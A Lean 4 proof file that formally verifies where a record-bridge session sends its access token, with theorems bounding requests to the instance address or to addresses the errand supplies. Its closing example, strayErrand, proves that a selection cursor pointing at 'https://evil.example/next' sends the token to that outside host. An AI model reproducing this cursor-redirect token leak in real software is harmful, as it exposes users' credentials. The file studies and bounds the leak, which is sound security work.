/-
# Where a session sends its token

Every request of a session carries its token.  An errand is an operation of a
session or a directive that a bridge works off over it, and an errand sends the
token below the address of the remote system, to whatever it is about.  Three
resources are taken as they are, and so may be addresses anywhere: the one that a
request is made for, the cursor of a selection, and the address of the content
of a document in the answer to the query for it (`GivesAddress`).

`contained_deeds` says so of all the errands that a session ever runs, with any
credentials that it is given meanwhile and any answers.
-/

import RecordBridge.Bridge.Basic
import RecordBridge.Proofs.Session.Addresses

namespace RecordBridge

namespace Session

variable {τ : Type}

/-- Something that a session does. -/
inductive Errand
  | operation (call : Call)
  | directive (settings : Settings) (submission : Submission)

/-- A bridge over a session. -/
def bridge (settings : Settings) (t : Transport τ) (clock : Flow τ Int) : Bridge (Session × τ) where
  settings := settings
  remote := remote t
  clock := Flow.onSnd clock

/-- The errand as a computation. -/
def Errand.run (t : Transport τ) (clock : Flow τ Int) : Errand → Over τ (Returned ⊕ Envelope)
  | .operation call => do
    let r ← call.run t
    pure (.inl r)
  | .directive settings submission => do
    let e ← (bridge settings t clock).handle submission
    pure (.inr e)

/-- Whether an errand fetches a document. -/
def Errand.Fetches : Errand → Prop
  | .operation (.fetchDocument _) => True
  | .directive settings submission => ∃ d name, submission.read = .ok d ∧
    Compile.operationOf d = .ok .invoke ∧ Compile.invocation settings d = .ok (.fetch name)
  | _ => False

/-- Whether an errand gives an address to ask at behind some exchanges. -/
inductive GivesAddress : Errand → List Exchange → String → Prop
  | request {method resource : String} {body : Option Object} {older : List Exchange} :
    GivesAddress (.operation (.request method resource body)) older resource
  | cursor {settings : Settings} {submission : Submission} {d : Directive} {cursor : String}
    {older : List Exchange} (hread : submission.read = .ok d)
    (ho : Compile.operationOf d = .ok .select) (hcursor : d.options.cursorId = some cursor) :
    GivesAddress (.directive settings submission) older cursor
  | content {errand : Errand} {older : List Exchange} {found : Exchange} {address : String}
    (hfetches : errand.Fetches) (hnames : NamesContent found.answer address) :
    GivesAddress errand (older ++ [found]) address

variable {s : Session} {c : Credentials} {config : Config} {errand : Errand}

/-! ### The conduct of an errand -/

theorem GivesAddress.append {first older : List Exchange} {address : String}
    (h : GivesAddress errand older address) : GivesAddress errand (first ++ older) address := by
  cases h with
  | request => exact .request
  | cursor hread ho hcursor => exact .cursor hread ho hcursor
  | content hfetches hnames =>
    rw [← List.append_assoc]
    exact .content hfetches hnames

/-- To keep the credentials, and to send them below their address or where the
errand says. -/
def aim (c : Credentials) (config : Config) (errand : Errand) : Conduct where
  holds s := s.credentials = c ∧ s.resourceRoot = config.resourceRoot
  allows older e := Aimed c (GivesAddress errand older) e.request
  allows_append _ _ _ h := ⟨h.1, h.2.imp_right fun h => ⟨h.1, h.2.append⟩⟩

theorem permitsBelow_aim : (aim c config errand).PermitsBelow := by
  intro method resource body hrelative s older answer hs
  exact aimed_httpRequest hs.1 hs.2 fun habsolute => nomatch hrelative.symm.trans habsolute

theorem permitsContent_aim (h : errand.Fetches) : (aim c config errand).PermitsContent := by
  intro s older found address answer hs hnames
  exact aimed_httpRequest hs.1 hs.2 fun _ => .content h hnames

theorem permits_aim {method resource : String} {body : Option Object}
    (h : isAbsolute resource = true → ∀ older, GivesAddress errand older resource) :
    (aim c config errand).Permits method resource body := by
  intro s older answer hs
  exact aimed_httpRequest hs.1 hs.2 fun habsolute => h habsolute older

/-- A catalog is asked for below the address, and nothing else is changed for it. -/
theorem keeps_catalog (t : Transport τ) (name : String) :
    Keeps (aim c config errand) (catalog t.watched name) (catalog t name) := by
  intro s hs
  refine (Talks.catalog t name).mono fun new r s' hstep => ?_
  have hdescribe : ∀ answer,
      (aim c config errand).AllowsAll [⟨s.describeRequest name, answer⟩] := by
    intro answer
    have hallowed := permitsBelow_aim "GET" _ none (isAbsolute_describeResource name) s [] answer hs
    exact Conduct.allowsAll_nil.concat hallowed
  generalize r.map Returned.catalog = r' at hstep
  cases hstep with
  | known => exact ⟨hs, Conduct.allowsAll_nil⟩
  | refused => exact ⟨hs, Conduct.allowsAll_nil⟩
  | failed => exact ⟨hs, hdescribe _⟩
  | described => exact ⟨hs, hdescribe _⟩
  | other _ hcatalog => exact nomatch hcatalog

/-! ### The work of a bridge -/

section Bridge

variable {settings : Settings} {submission : Submission} {d : Directive} {k : Conduct}
  (t : Transport τ) (clock : Flow τ Int)

/-- What a conduct lets a session do for a directive: describe its type, with something
known behind it, send then what the directive is compiled to, and look documents up for
an invocation. -/
structure Conduct.Serves (k : Conduct) (t : Transport τ) (settings : Settings) (d : Directive)
    (known : Prop) : Prop where
  describes : Compile.operationOf d ≠ .ok .invoke →
    Keeps k (catalog t.watched d.targetType) (catalog t d.targetType)
  knows : ∀ s, k.holds s → Talks s (catalog t.watched d.targetType) (catalog t d.targetType)
    fun _ r _ => ∀ info, r = .ok info → known
  sends : known → ∀ info now compiled r,
    (Compile.compile settings info now d).result = .ok compiled →
      compiled.action = .request r → k.Permits r.method.name r.resource r.body
  reconciles : known → ∀ start stop,
    k.Permits "GET" (deletedResource d.targetType start stop) none
  invokes : Compile.operationOf d = .ok .invoke → k.PermitsBelow
  fetches : Compile.operationOf d = .ok .invoke → ∀ name,
    Compile.invocation settings d = .ok (.fetch name) → k.PermitsContent

variable {known : Prop}

theorem keeps_resolve (h : k.Serves t settings d known) :
    Keeps k ((bridge settings t.watched (Flow.onFst clock)).resolve d)
      ((bridge settings t clock).resolve d) := by
  unfold Bridge.resolve
  refine Keeps.ofTraced_bind fun o ho => ?_
  have hop : Compile.operationOf d = .ok o := Outcome.mapError_eq_ok_iff.1 ho
  have hcatalog : o ≠ .invoke → Keeps k
      ((bridge settings t.watched (Flow.onFst clock)).remote.catalog d.targetType)
      ((bridge settings t clock).remote.catalog d.targetType) := by
    intro hne
    refine Keeps.bind (h.describes fun h => hne ?_) fun _ => Keeps.ofTraced
    exact Except.ok.inj (hop.symm.trans h)
  cases o with
  | invoke => exact Keeps.ofTraced
  | _ => exact hcatalog (by decide)

/-- Only an invocation is worked off without a catalog, and behind a catalog something is
known. -/
theorem talks_resolve (h : k.Serves t settings d known) (hs : k.holds s) :
    Talks s ((bridge settings t.watched (Flow.onFst clock)).resolve d)
      ((bridge settings t clock).resolve d) fun _ r _ =>
        (r = .ok none → Compile.operationOf d = .ok .invoke) ∧
          ∀ info, r = .ok (some info) → known := by
  unfold Bridge.resolve
  refine Talks.ofTraced_bind (fun o ho => ?_) fun _ _ =>
    ⟨fun h => (nomatch h), fun _ h => nomatch h⟩
  have hop : Compile.operationOf d = .ok o := Outcome.mapError_eq_ok_iff.1 ho
  have hcatalog : Talks s
      ((bridge settings t.watched (Flow.onFst clock)).remote.catalog d.targetType)
      ((bridge settings t clock).remote.catalog d.targetType) fun _ r _ =>
        (r = .ok none → Compile.operationOf d = .ok .invoke) ∧
          ∀ info, r = .ok (some info) → known := by
    refine Talks.bind (h.knows s hs) (fun _ info _ hknown => ?_) ?_
    · exact Talks.ofTraced ⟨fun h => (nomatch Except.ok.inj h), fun _ _ => hknown info rfl⟩
    · exact fun _ _ _ _ => ⟨fun h => (nomatch h), fun _ h => nomatch h⟩
  cases o with
  | invoke => exact Talks.ofTraced ⟨fun _ => hop, fun _ h => nomatch Except.ok.inj h⟩
  | _ => exact hcatalog

theorem keeps_send {r : Request} (h : k.Permits r.method.name r.resource r.body) :
    Keeps k ((bridge settings t.watched (Flow.onFst clock)).send r)
      ((bridge settings t clock).send r) := by
  unfold Bridge.send
  refine Keeps.bind (Keeps.request t h) fun answer => Keeps.log_if_bind ?_
  exact Keeps.ite Keeps.ofTraced (Keeps.bind Keeps.ofTraced fun _ => Keeps.ofTraced)

theorem keeps_takeOver (catalog : Catalog) (compiled : Compiled) (r : Request) (answer : Answer)
    (e : Envelope) :
    Keeps k ((bridge settings t.watched (Flow.onFst clock)).takeOver catalog compiled r answer e)
      ((bridge settings t clock).takeOver catalog compiled r answer e) := by
  unfold Bridge.takeOver
  refine Keeps.bind ?_ fun _ => Keeps.ite ?_ Keeps.ofTraced
  · unfold Bridge.logCreated
    cases Bridge.createdId? answer.body with
    | none => exact Keeps.ofTraced
    | some id => exact Keeps.ite Keeps.ofTraced Keeps.ofTraced
  · unfold Bridge.takePage
    exact Keeps.bind Keeps.ofTraced fun _ => Keeps.log_if_bind Keeps.ofTraced

theorem keeps_addDeletions {compiled : Compiled} (e : Envelope)
    (h : ∀ start stop,
      k.Permits "GET" (deletedResource compiled.directive.targetType start stop) none) :
    Keeps k ((bridge settings t.watched (Flow.onFst clock)).addDeletions compiled e)
      ((bridge settings t clock).addDeletions compiled e) := by
  unfold Bridge.addDeletions
  cases compiled.deltaSince with
  | none => exact Keeps.ofTraced
  | some since =>
    refine Keeps.bind (Keeps.beside clock) fun now => Keeps.bind ?_ fun _ => Keeps.ofTraced
    unfold Deletions.reconcile
    refine Keeps.bind Keeps.ofTraced fun ends => ?_
    refine Keeps.bind (Keeps.deletedBetween t (h _ _)) fun ids => ?_
    exact Keeps.log_if_bind Keeps.ofTraced

theorem keeps_runDocument (e : Envelope) (i : DocumentInvoke) (hbelow : k.PermitsBelow)
    (hcontent : ∀ name, i = .fetch name → k.PermitsContent) :
    Keeps k ((bridge settings t.watched (Flow.onFst clock)).runDocument e i)
      ((bridge settings t clock).runDocument e i) := by
  unfold Bridge.runDocument
  cases i with
  | fetch name =>
    have hfetch := Keeps.fetchDocument t hbelow (hcontent name rfl) (some name)
    refine Keeps.bind hfetch fun found => ?_
    cases found with
    | none => exact Keeps.bind Keeps.ofTraced fun _ => Keeps.ofTraced
    | some document => exact Keeps.ofTraced
  | refresh name contentType content =>
    have hupsert := Keeps.upsertDocument t hbelow (some name) contentType content
    exact Keeps.bind hupsert fun _ => Keeps.ofTraced

theorem keeps_workOn (h : k.Serves t settings d known) (hknown : known) (info : Catalog) :
    Keeps k ((bridge settings t.watched (Flow.onFst clock)).workOn info d)
      ((bridge settings t clock).workOn info d) := by
  unfold Bridge.workOn
  refine Keeps.bind (Keeps.beside clock) fun now => Keeps.ofTraced_bind fun compiled hcompiled => ?_
  dsimp only
  split
  · next i hi =>
    obtain ⟨ho, hinvocation⟩ := (Compile.resolves_compile hcompiled).invoked i hi
    refine keeps_runDocument t clock _ i (h.invokes ho) ?_
    rintro name rfl
    exact h.fetches ho name hinvocation
  · next r hr =>
    have htarget : compiled.directive.targetType = d.targetType :=
      Compile.targetType_of_compile hcompiled
    refine Keeps.bind (keeps_send t clock (h.sends hknown info now compiled r hcompiled hr)) ?_
    intro answer
    refine Keeps.bind (keeps_takeOver t clock _ _ _ _ _) fun _ => keeps_addDeletions t clock _ ?_
    rw [htarget]
    exact h.reconciles hknown

theorem keeps_workInvocation (h : k.Serves t settings d known)
    (ho : Compile.operationOf d = .ok .invoke) :
    Keeps k ((bridge settings t.watched (Flow.onFst clock)).workInvocation d)
      ((bridge settings t clock).workInvocation d) := by
  unfold Bridge.workInvocation
  refine Keeps.ofTraced_bind fun compiled hcompiled => ?_
  have hresolves := Compile.resolves_compileInvoke ho hcompiled
  cases hi : compiled.invoke? with
  | none => exact Keeps.ofTraced
  | some i =>
    have haction : compiled.action = .invoke i := by
      unfold Compiled.invoke? at hi
      split at hi
      · exact nomatch hi
      · next haction =>
        obtain rfl := Option.some.inj hi
        exact haction
    refine keeps_runDocument t clock _ i (h.invokes ho) ?_
    rintro name rfl
    exact h.fetches ho name (hresolves.invoked _ haction).2

/-- Working off a directive keeps to every conduct that serves it. -/
theorem keeps_handle
    (h : ∀ d, submission.read = .ok d → ∃ known, k.Serves t settings d known) :
    Keeps k ((bridge settings t.watched (Flow.onFst clock)).handle submission)
      ((bridge settings t clock).handle submission) := by
  have hwork : Keeps k ((bridge settings t.watched (Flow.onFst clock)).work submission)
      ((bridge settings t clock).work submission) := by
    unfold Bridge.work
    refine Keeps.ofTraced_bind fun d hd => ?_
    obtain ⟨known, hserves⟩ := h d (Outcome.mapError_eq_ok_iff.1 hd)
    refine (keeps_resolve t clock hserves).bind_of
      (fun s hs => talks_resolve t clock hserves hs) fun found hfound => ?_
    cases found with
    | none => exact keeps_workInvocation t clock hserves (hfound.1 rfl)
    | some info => exact keeps_workOn t clock hserves (hfound.2 info rfl) info
  unfold Bridge.handle
  refine Keeps.bind Keeps.ofTraced fun _ => Keeps.bind hwork.attempt fun result => ?_
  cases result with
  | ok e => exact Keeps.bind Keeps.ofTraced fun _ => Keeps.ofTraced
  | error e => exact Keeps.bind Keeps.ofTraced fun _ => Keeps.ofTraced

/-- The credentials may be sent for a directive: below their address or where the directive
says. -/
theorem serves_aim (hread : submission.read = .ok d) :
    (aim c config (.directive settings submission)).Serves t settings d True where
  describes _ := keeps_catalog t d.targetType
  knows _ _ := (Talks.catalog t d.targetType).mono fun _ _ _ _ _ _ => trivial
  sends _ _ _ _ r hcompiled hr := permits_aim fun habsolute _ =>
    have hcursor := (Compile.resolves_compile hcompiled).cursor r hr habsolute
    .cursor hread hcursor.1 hcursor.2
  reconciles _ _ _ := permitsBelow_aim "GET" _ none (isAbsolute_deletedResource _ _ _)
  invokes _ := permitsBelow_aim
  fetches ho name hinvocation := permitsContent_aim ⟨d, name, hread, ho, hinvocation⟩

end Bridge

/-! ### Errands -/

/-- An operation that brings no credentials keeps them, and sends them below their
address or where it says. -/
theorem keeps_operation (t : Transport τ) {call : Call} (h : call.isLogin = false) :
    Keeps (aim c config (.operation call)) (call.run t.watched) (call.run t) := by
  cases call with
  | request method resource body =>
    have hrequest : (aim c config (.operation (.request method resource body))).Permits method
        resource body := permits_aim fun _ _ => .request
    exact Keeps.bind (Keeps.request t hrequest) fun _ => Keeps.ofTraced
  | catalog typeName =>
    cases typeName with
    | none => exact Keeps.bind Keeps.ofTraced fun _ => Keeps.ofTraced
    | some name => exact Keeps.bind (keeps_catalog t name) fun _ => Keeps.ofTraced
  | deletedBetween typeName start stop =>
    have hasked : (aim c config (.operation (.deletedBetween typeName start stop))).Permits "GET"
        (deletedResource typeName start stop) none :=
      permitsBelow_aim _ _ _ (isAbsolute_deletedResource typeName start stop)
    exact Keeps.bind (Keeps.deletedBetween t hasked) fun _ => Keeps.ofTraced
  | fetchDocument name =>
    have hfetches : (Errand.operation (.fetchDocument name)).Fetches := trivial
    exact Keeps.bind (Keeps.fetchDocument t permitsBelow_aim (permitsContent_aim hfetches) _)
      fun _ => Keeps.ofTraced
  | upsertDocument name contentType content =>
    exact Keeps.bind (Keeps.upsertDocument t permitsBelow_aim _ _ _) fun _ => Keeps.ofTraced
  | updateCredentials => exact nomatch h

/-- The credentials behind an errand. -/
def Credentials.behind (c : Credentials) : Errand → Credentials
  | .operation call => c.after call
  | .directive _ _ => c

theorem Errand.talks (t : Transport τ) (clock : Flow τ Int) (errand : Errand)
    (hs : s.credentials = c) (hroot : s.resourceRoot = config.resourceRoot) :
    Talks s (errand.run t.watched (Flow.onFst clock)) (errand.run t clock) fun new _ s' =>
      s'.credentials = c.behind errand ∧ s'.resourceRoot = config.resourceRoot ∧
        (aim c config errand).AllowsAll new := by
  have hkept : ∀ {x : Over (τ × List Exchange) (Returned ⊕ Envelope)}
      {y : Over τ (Returned ⊕ Envelope)}, Keeps (aim c config errand) x y →
      c.behind errand = c → Talks s x y fun new _ s' =>
        s'.credentials = c.behind errand ∧ s'.resourceRoot = config.resourceRoot ∧
          (aim c config errand).AllowsAll new := by
    intro x y hkeeps hsame
    refine (hkeeps s ⟨hs, hroot⟩).mono ?_
    rintro new r s' ⟨⟨hs', hroot'⟩, hnew⟩
    exact ⟨hs'.trans hsame.symm, hroot', hnew⟩
  cases errand with
  | directive settings submission =>
    have hhandle := keeps_handle (k := aim c config (.directive settings submission)) t clock
      fun d hread => ⟨True, serves_aim t hread⟩
    exact hkept (Keeps.bind hhandle fun _ => Keeps.ofTraced) rfl
  | operation call =>
    cases hlogin : call.isLogin with
    | false =>
      exact hkept (Keeps.bind (keeps_operation t hlogin) fun _ => Keeps.ofTraced)
        (c.after_of_not_login hlogin)
    | true =>
      have hcall : Talks s (call.run t.watched) (call.run t) fun new _ s' =>
          s'.credentials = c.after call ∧ s'.resourceRoot = config.resourceRoot ∧ new = [] := by
        refine (call.talks t s).mono fun new r s' hstep => ?_
        obtain ⟨hs', hroot'⟩ := credentials_step hstep
        refine ⟨hs ▸ hs', hroot'.trans hroot, ?_⟩
        cases hstep with
        | login => rfl
        | other hother => exact nomatch hother.symm.trans hlogin
        | _ => exact nomatch hlogin
      refine Talks.bind hcall ?_ ?_
      · rintro _ r s' ⟨hs', hroot', rfl⟩
        exact Talks.ofTraced ⟨hs', hroot', Conduct.allowsAll_nil⟩
      · rintro _ e s' ⟨hs', hroot', rfl⟩
        exact ⟨hs', hroot', Conduct.allowsAll_nil⟩

/-- An errand with the session before it, and what was exchanged for it. -/
structure Deed where
  errand : Errand
  before : Session
  exchanges : List Exchange

/-- The deed of an errand, from a state of the transport on. -/
def deed (t : Transport τ) (clock : Flow τ Int) (errand : Errand) (s : Session) (u : τ) : Deed where
  errand := errand
  before := s
  exchanges := (errand.run t.watched (Flow.onFst clock) (s, (u, []))).2.2.2

/-- The deeds of a session that runs errands one after the other. -/
def deeds (t : Transport τ) (clock : Flow τ Int) : List Errand → Session → τ → List Deed
  | [], _, _ => []
  | errand :: errands, s, u =>
    deed t clock errand s u ::
      deeds t clock errands (errand.run t clock (s, u)).2.1 (errand.run t clock (s, u)).2.2

/-- The credentials behind deeds, from given ones on. -/
def Credentials.behindAll (c : Credentials) (past : List Deed) : Credentials :=
  (past.map (·.errand)).foldl Credentials.behind c

/-- Whether every request of a history went where it may: with the token that the
session had been given last, and below the address it had been given last, or to an
address that the errand itself gives. -/
structure Contained (config : Config) (history : List Deed) : Prop where
  /-- Each errand starts with the credentials that were given last. -/
  before : ∀ past deed later, history = past ++ deed :: later →
    deed.before.credentials = config.credentials.behindAll past
  /-- Each request goes below their address or to one that is given. -/
  aimed : ∀ past deed later, history = past ++ deed :: later →
    ∀ older e newer, deed.exchanges = older ++ e :: newer →
      Aimed (config.credentials.behindAll past) (GivesAddress deed.errand older) e.request

theorem aimed_deeds (t : Transport τ) (clock : Flow τ Int) (errands : List Errand) (u : τ)
    (hs : s.credentials = c) (hroot : s.resourceRoot = config.resourceRoot)
    {past later : List Deed} {d : Deed} (h : deeds t clock errands s u = past ++ d :: later) :
    d.before.credentials = c.behindAll past ∧
      (aim (c.behindAll past) config d.errand).AllowsAll d.exchanges := by
  induction errands generalizing s u c past with
  | nil => exact absurd h (by simp [deeds])
  | cons errand errands ih =>
    obtain ⟨new, s', u', hwatched, hstate, hs', hroot', hnew⟩ :=
      errand.talks t clock hs hroot u []
    rw [deeds, hstate] at h
    cases past with
    | nil =>
      obtain ⟨rfl, -⟩ := List.cons.inj h
      refine ⟨hs, ?_⟩
      rw [deed, hwatched]
      exact hnew
    | cons first past =>
      obtain ⟨rfl, hrest⟩ := List.cons.inj h
      exact ih u' hs' hroot' hrest

/-- **The token stays with the remote system, but for the addresses that are
given.**  Whatever errands a session runs from its opening on, and whatever is
answered to it or not answered, its requests are contained. -/
theorem contained_deeds (config : Config) (t : Transport τ) (clock : Flow τ Int)
    (errands : List Errand) (u : τ) :
    Contained config (deeds t clock errands (ofConfig config) u) where
  before _ _ _ h := (aimed_deeds t clock errands u rfl rfl h).1
  aimed _ _ _ h := (aimed_deeds t clock errands u rfl rfl h).2

/-- A selection that goes on from a cursor elsewhere. -/
def strayErrand : Errand :=
  .directive {} (.directive
    { op := "SELECT"
      targetType := "Account"
      options := { cursorId := some "https://evil.example/next" } })

/-- For that selection a session sends its token to an address that is not below its
own. -/
theorem strayErrand_escapes :
    let config : Config := { instanceUrl := "https://na1.example.com", accessToken := "token-1" }
    (deeds accountTransport (pure 0) [strayErrand] (ofConfig config) ()).flatMap
        (fun deed => deed.exchanges.map fun e => (e.request.url, e.request.headers))
        = [("https://na1.example.com/services/data/v59.0/sobjects/Account/describe/",
            config.credentials.headers),
          ("https://evil.example/next", config.credentials.headers)] ∧
      ¬ Below config.credentials.instanceUrl "https://evil.example/next" := by
  refine ⟨by decide +kernel, ?_⟩
  intro hbelow
  exact absurd hbelow.toList (by decide +kernel)

end Session
end RecordBridge
